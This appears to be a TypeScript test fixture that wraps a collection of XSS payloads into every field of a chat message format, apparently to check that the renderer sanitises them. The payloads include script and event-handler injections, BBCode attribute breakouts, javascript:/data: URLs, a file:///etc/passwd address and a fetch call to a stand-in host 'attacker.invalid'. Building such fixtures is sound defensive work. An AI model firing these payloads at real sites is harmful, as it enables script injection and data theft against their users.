import type { Stored } from '../../src/index.ts';

/** What an injected piece would do if it ran: leave a mark, open a dialog, ask for something. */
const run = 'window.pwned=1;alert(1);fetch(&quot;http://attacker.invalid/x&quot;)'.replaceAll('&quot;', '`');

const attacks: readonly string[] = [
  `<script>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `<svg onload="${run}">`,
  `"><img src=x onerror=${run}>`,
  `' onerror='${run}' x='`,
  `" autofocus onfocus="${run}" tabindex="0`,
  `" style="animation-name:x" onanimationstart="${run}`,
  `</style><script>${run}</script>`,
  `--><script>${run}</script><!--`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<base href="http://attacker.invalid/">`,
  `<link rel=stylesheet href="http://attacker.invalid/x.css">`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<details open ontoggle="${run}">`,
  `<math><mtext></mtext><mglyph><style><img src=x onerror="${run}">`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `&lt;img src=x onerror=${run}&gt;`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `\u0000<script>${run}</script>`,
  `[url=javascript:${run}]x[/url]`,
  `[url=JaVaScRiPt:${run}]x[/url]`,
  `[url= javascript:${run}]x[/url]`,
  `[url=https://a.invalid/"onmouseover="${run}]x[/url]`,
  `[icon=/x" onerror="${run} title=x]`,
  `[icon=data:text/html,<script>${run}</script> title=x]`,
  `[context=0:0/1]<img src=x onerror=${run}>[/context]`,
  `[color=#fff;background:url(//attacker.invalid)]x[/color]`,
  `[send=" onclick="${run}]x[/send]`,
  `[put=<img src=x onerror=${run}>][b]x[/b][/put]`,
  `[user=1"onclick="${run}]x[/user]`,
  `[code]</div><script>${run}</script>[/code]`,
  `>><img src=x onerror=${run}>`,
];

const addresses: readonly string[] = [
  `javascript:${run}`,
  `JAVASCRIPT:${run}`,
  `\u0001javascript:${run}`,
  `java\nscript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `vbscript:${run}`,
  `/" onerror="${run}`,
  `file:///etc/passwd`,
  `blob:x`,
];

/** One message for every place that text or an address may come from. */
const places: readonly ((text: string) => object)[] = [
  (text) => ({ text }),
  (text) => ({ attach: { BLOCKS: [{ MESSAGE: text }] } }),
  (text) => ({
    attach: { BLOCKS: [{ GRID: [{ NAME: text, VALUE: text, DISPLAY: 'ROW', LINK: text, WIDTH: text }] }] },
  }),
  (text) => ({
    attach: {
      COLOR_TOKEN: text,
      BLOCKS: [
        { LINK: [{ NAME: text, LINK: text, DESC: text, HTML: text, PREVIEW: text, USER_ID: 1 }] },
        { RICH_LINK: [{ NAME: text, DESC: text, HTML: text, LINK: text, PREVIEW: text }] },
        { USER: [{ NAME: text, LINK: text, AVATAR: text, AVATAR_TYPE: text }] },
        { IMAGE: [{ NAME: text, LINK: text, PREVIEW: text, WIDTH: 50, HEIGHT: 50 }] },
        { FILE: [{ NAME: text, LINK: text, SIZE: text }] },
        { DELIMITER: { SIZE: text, COLOR: text } },
        { [text]: [{ NAME: text }] },
      ],
    },
  }),
  (text) => ({
    keyboard: [
      { TYPE: 'BUTTON', TEXT: text, LINK: text, BG_COLOR_TOKEN: text, DISPLAY: text, WIDTH: text },
      { TYPE: 'BUTTON', TEXT: text, BOT_ID: 1, COMMAND: text, COMMAND_PARAMS: text },
      { TYPE: 'BUTTON', TEXT: text, ACTION: 'SEND', ACTION_VALUE: text, DISABLED: 'Y' },
    ],
    menu: [{ TEXT: text, LINK: text }],
  }),
];

/** Stored messages that try to be more than messages: every attack in every place. */
export const hostileMessages: readonly Stored[] = [...attacks, ...addresses].flatMap((text) =>
  places.map((place) => place(text)),
);
